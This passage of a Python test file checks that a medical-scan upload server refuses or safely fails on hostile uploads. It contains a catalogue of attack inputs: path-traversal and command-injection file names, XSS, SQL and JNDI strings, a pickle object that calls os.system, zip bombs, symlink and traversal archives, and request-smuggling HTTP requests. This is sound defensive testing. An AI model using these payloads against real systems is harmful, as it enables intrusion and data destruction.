        [parts[0], *(part[:20] + struct.pack("<I", size) + part[24:] for part in parts[1:])]
    )


def zip_with(name: str, **attributes) -> bytes:
    member = zipfile.ZipInfo(name)
    for key, value in attributes.items():
        setattr(member, key, value)
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr(member, "/etc/passwd")
    return content.getvalue()


def tar_gz() -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../../evil"), io.BytesIO(b""))
    return content.getvalue()


class Evil:
    def __reduce__(self):
        return os.system, ("touch pickled",)


ZEROS = b"\0" * (1 << 20)
NAMES = [  # of files that are taken, whose names must do nothing
    "../../evil.nii", "..\\..\\evil.nii", "/etc/evil.nii", "/etc/passwd", "C:\\Windows\\evil.nii",
    "....//....//evil.nii", "%2e%2e%2fevil.nii", "a/../../../evil.nii", b"evil\0.nii", "..", ".",
    "~/.ssh/authorized_keys", "file:///etc/passwd", "CON", "`touch evil`.nii", "$(touch evil).nii",
    "-rf", "a;touch evil;.nii", "evil" * 1200 + ".nii", "job.json", "../result.json",
    "<script>alert(1)</script>.nii", "\"><img src=x onerror=alert(1)>.nii", "{{7*7}}.nii",
    "%s%n%x.nii", "a%0d%0aSet-Cookie: owner=x.nii", "\u202eiin.exe", "'; DROP TABLE jobs;--",
    "${jndi:ldap://evil}.nii", "javascript:alert(1)", "\N{PILE OF POO}",
]  # fmt: skip
WRONG = {  # refused at once: no scan and no picture
    "empty.nii.gz": b"", "byte.nii": b"x", "program.nii.gz": b"\x7fELF" + ZEROS[:4000],
    "program.dcm": b"MZ" + ZEROS[:4000], "page.png": b"<html><script>alert(1)</script></html>",
    "drawing.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "paper.dcm": b"%PDF-1.7\n" + ZEROS[:4000], "data.zip": b'{"a": 1}', "x.gif": b"GIF89a" + ZEROS,
    "entities.nii": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
    "pickle.nii": pickle.dumps(Evil()), "tar.nii.gz": tar_gz(), "letter.dcm": b"Dear colleague",
    "zeros.nii.gz": gzip.compress(ZEROS * 50), "head.nii.gz": b"\x1f\x8b\x08\0",
    "noise.nii.gz": b"\x1f\x8b" + secrets.token_bytes(2000), "half.nii": raw_nifti()[:200],
}  # fmt: skip
TOO_LARGE = {  # refused at once: what the header says would not fit
    "dims.nii": raw_nifti(dim=[7] + [32767] * 7), "dims.nii.gz": gzip.compress(
        raw_nifti(dim=[3, 30000, 30000, 30000, 1, 1, 1, 1])),
    "dims2.nii": nifti2(dim=[7] + [2**60] * 7), "negative.nii": raw_nifti(dim=[3] + [-5] * 7),
    "offset.nii": raw_nifti(vox_offset=1e30), "nan.nii": raw_nifti(vox_offset=np.nan),
    "offset2.nii": nifti2(dim=[3, 4, 4, 4, 1, 1, 1, 1], vox_offset=2**40),
    "large.png": png(60000, 60000, b""), "stub.png": png(60000, 60000, b"")[:20],
    "large.jpg": b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03",
    "none.jpg": b"\xff\xd8\xff\xff\xff\xff\xff", "short.jpg": b"\xff\xd8\xff\xc0\0\x11\x08",
}  # fmt: skip
BROKEN = {  # taken, and the prediction fails in words
    "half.nii.gz": small_nifti(np.random.default_rng(0).integers(0, 99, (16, 16, 16)))[:-999],
    "half.zip": zipped({"a": b"a" * 999})[:-30], "void.zip": b"PK\5\6" + b"\0" * 18,
    "nested.zip": zipped({"a.zip": zipped({"b.zip": zipped({"c": ZEROS})})}),
    "traversal.zip": zipped({"../../evil.dcm": b"x", "/etc/evil": b"x", "..\\evil": b"x"}),
    "link.zip": zip_with("evil.dcm", external_attr=0o120777 << 16),
    "locked.zip": zip_with("a.dcm", flag_bits=1), "method.zip": zip_with("a.dcm", compress_type=12),
    "bomb.zip": with_size(zipped({str(n): b"x" for n in range(3)}), 0xF0000000),
    "zeros.zip": zipped({f"{n}.dcm": ZEROS for n in range(4)}),
    "liar.zip": with_size(zipped({"a.dcm": ZEROS}), 5), "many.zip": zipped(dict.fromkeys(
        map(str, range(5000)), b"")),
    "stub.dcm": dicom()[:400], "huge.dcm": dicom(Rows=65535, Columns=65535),
    "frames.dcm": dicom(NumberOfFrames=2**31 - 1), "deflated.dcm": deflated_dicom(),
    "place.dcm": dicom(ImagePositionPatient=["1e300", "0", "0"], PixelSpacing=["1e300", "0"]),
    "metres.nii": raw_nifti(srow_x=[1e6, 0, 0, 0], srow_y=[0, 1e6, 0, 0], srow_z=[0, 0, 1e6, 0]),
    "flat.nii": raw_nifti(srow_x=[0, 0, 0, 0]), "inf.nii": raw_nifti(srow_x=[np.inf, 0, 0, 0]),
    "not.nii": raw_nifti(srow_x=[np.nan, 0, 0, 0]), "axes.nii": raw_nifti(dim=[1] + [5] * 7),
    "colour.nii": raw_nifti(datatype=128, bitpix=24), "type.nii": raw_nifti(datatype=9999),
    "rows.png": png(64, 64, zlib.compress(ZEROS * 20)[:-9]), "rows2.png": png(64, 64, b"x"),
}  # fmt: skip
GET, POST = (f"{verb} HTTP/1.1\r\nHost: localhost\r\n".encode()
             for verb in ("GET /", "POST /api/jobs"))  # fmt: skip
HTTP = {  # requests that are none, or too large; statuses that are an answer to them
    "headers": (GET + b"X: y\r\n" * 60000 + b"\r\n", (431, 0)),
    "header": (GET + b"X: " + b"y" * 300_000 + b"\r\n\r\n", (431, 0)),
    "negative": (POST + b"Content-Length: -5\r\n\r\n", (400,)),
    "both": (POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", (400,)),
    "chunks": (POST + b"Transfer-Encoding: chunked\r\n\r\nzz\r\nxx", (400,)),
    "short": (POST + b"Content-Length: 999\r\n\r\nx", (0,)),
    "garbage": (b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03\r\n\r\n", (400,)),
    "two hosts": (GET + b"Host: evil\r\n\r\n", (400, 403)),
}  # fmt: skip
BODIES = {  # forms that are none
    "json": b'{"sample": 1}', "nothing": b"", "no end": multipart("sample=1")[:-20],
    "other boundary": multipart("sample=1").replace(b"XxXxX", b"y"),
    "many parts": multipart(*[(f"{n}.dcm", b"") for n in range(MOST_PARTS + 1)]),
    "long field": multipart("sample=" + "1" * 2**20),
    "long channels": multipart("channels=" + "x" * 10**6),
    "long header": b'--XxXxX\r\nContent-Disposition: form-data; name="files"; x="' + b"y" * 2**21,
    "encoded name": multipart(("x", b"y")).replace(
        b'filename="x"', b"filename*=utf-8''..%2f..%2fevil"),
    "no text for a name": multipart((b"\xff\xfe\xc0\x80.nii", raw_nifti())),
    "no name": multipart(("x", b"y")).replace(b'filename="x"', b'filename=""'),
    "other field": multipart(("x", b"y")).replace(b'name="files"', b'name="evil"'),
}  # fmt: skip


def test_hostile_uploads_are_many():
    assert sum(map(len, (NAMES, WRONG, TOO_LARGE, BROKEN, HTTP, BODIES))) >= 50


@pytest.fixture(scope="module")
def unharmed(site, around, done):
    """After a group of hostile uploads: the server answers, and nothing lies where it must not."""
    outside = [name for name in files_in(around) if not name.startswith("ours")]

    def check():
        assert site.get("/api/about")["max_mb"] == MOST_MB
        assert site.send(("a.png", png(64, 64)))["state"] == "done"
        assert [n for n in files_in(around) if not n.startswith("ours")] == outside
        known = {job["id"] for job in site.get("/api/jobs")["jobs"]}
        for folder in site.folder.iterdir():
            assert folder.name == ".lock" or len(folder.name) == 22, folder
            inside = set(os.listdir(folder)) if folder.is_dir() else set()
            assert inside <= {"job.json", "scan.json", *jobs.FILES.values()}, inside
        assert known
        assert pred.read_json(site.folder / done["id"] / "job.json")["name"] == done["name"]

    return check


def test_hostile_names(site, unharmed):
    for name in NAMES:
        status, job = site.post((name, raw_nifti()[:-9]))
        assert status == 202, (name, job)
        job = site.over(job)
        assert job["state"] == "failed" and "truncated" in job["error"], (name, job)
        assert job["name"].isprintable() and 0 < len(job["name"]) <= 200
        assert "/" not in job["name"] and "\\" not in job["name"]
    unharmed()


def test_hostile_names_of_a_case(site, unharmed):
    half = raw_nifti()[:-9]
    for name in NAMES:
        said = {name if isinstance(name, str) else name.decode(): "flair", "t1ce.nii": "t1ce"}
        job = site.send((name, half), ("t1ce.nii", half), "task=tumour",
                        f"channels={json.dumps(said)}")  # fmt: skip
        assert job["state"] == "failed" and str(site.folder) not in job["error"], (name, job)
        assert job["name"].isprintable() and "/" not in job["name"]
    unharmed()


def test_hostile_contents_that_are_no_scan(site, unharmed):
    for name, content in WRONG.items():
        status, said = site.post((name, content))
        assert status in (400, 415) and said["error"].startswith(name), (name, said)
    unharmed()


def test_hostile_headers_that_say_too_much(site, unharmed):
    for name, content in TOO_LARGE.items():
        status, said = site.post((name, content))
        assert status in (400, 413) and said["error"].startswith(name), (name, said)
    unharmed()


def test_hostile_contents_that_are_no_sound_scan(site, unharmed):
    for name, content in BROKEN.items():
        job = site.send((name, content))
        assert job["state"] == "failed" and len(job["error"]) > 20, (name, job)
        assert "Traceback" not in job["error"] and str(site.folder) not in job["error"]
    unharmed()


@pytest.mark.parametrize("name", HTTP)
def test_hostile_requests(site, name):
    content, statuses = HTTP[name]
    assert site.raw(content)[0] in statuses
    assert site.get("/api/about")["max_mb"] == MOST_MB


def test_hostile_forms(site, unharmed):
    for name, body in BODIES.items():
        status, _, said = site.ask("POST", "/api/jobs", body,
                                   Content_Type="multipart/form-data; boundary=XxXxX")  # fmt: skip
        assert status in (400, 413, 415) and json.loads(said)["error"], (name, status, said)
    unharmed()


def test_a_head_that_unpacks_to_more_than_it_says_is_read_as_far_as_it_says(site, unharmed):
    flat = raw_nifti(np.zeros((64, 64, 2), np.int16))
    job = site.send(("tail.nii.gz", gzip.compress(flat + ZEROS * 100)))
    assert job["state"] == "done" and job["result"]["volume_ml"] == 0
    unharmed()


# ---------------------------------------------------------------- uploads.py alone


@pytest.mark.parametrize("name, content, known", [
    ("x", raw_nifti(), "nifti"), ("x.png", raw_nifti(), "nifti"), ("x", nifti2(), "nifti"),
    ("x", raw_nifti().replace(b"\x5c\1\0\0", b"\x5d\1\0\0", 1), None),
    ("x.txt", gzip.compress(raw_nifti()), "gzip"), ("x.nii.gz", gzip.compress(b"x" * 999), None),
    ("x", png(8, 8), "png"), ("x.dcm", b"\xff\xd8\xff\xe0", "jpeg"), ("x", dicom(), "dicom"),
    ("x.dcm", b"\x08\0\x05\0" + ZEROS[:99], "dicom"), ("x", b"\x08\0\x05\0" + ZEROS[:99], None),
    ("x.ima", b"text", None), ("x", zipped({}), "zip"), ("x.nii", b"", None),
], ids=lambda value: "content" if isinstance(value, bytes) else str(value))  # fmt: skip
def test_content_says_what_a_file_is(tmp_path, name, content, known):
    (tmp_path / "file").write_bytes(content)
    assert uploads.kind(tmp_path / "file", name) == known


def test_big_endian_headers_are_known(tmp_path):
    header = nib.Nifti1Header(endianness="big")
    header.set_data_shape((3, 4, 5))
    (tmp_path / "file").write_bytes(header.binaryblock + b"\0" * 4)
    assert uploads.kind(tmp_path / "file", "x") == "nifti"
    uploads.check_size(tmp_path / "file", "nifti", "x")


def test_the_largest_sound_scan_is_not_too_large(tmp_path):
    sizes = {(512, 512, 2048): True, (512, 512, 2049): False}
    for (x, y, z), fits in sizes.items():
        (tmp_path / "file").write_bytes(raw_nifti(dim=[3, x, y, z, 1, 1, 1, 1]))
        if fits:
            uploads.check_size(tmp_path / "file", "nifti", "x")
        else:
            with pytest.raises(uploads.Refused, match="512 x 512 x 2049 voxels"):
                uploads.check_size(tmp_path / "file", "nifti", "x")


@pytest.mark.parametrize("name, shown", [
    ("a/b\\c.nii", "a/b/c.nii"), ("/etc/passwd", "etc/passwd"), (None, "unnamed"),
    ("\0\n", "unnamed"),
    ("a\u202eb", "a b"), ("x" * 300, "x" * 200), ("é 1.nii", "é 1.nii"),
])  # fmt: skip
def test_names_are_shown_plainly(name, shown):
    assert uploads.shown(name) == shown
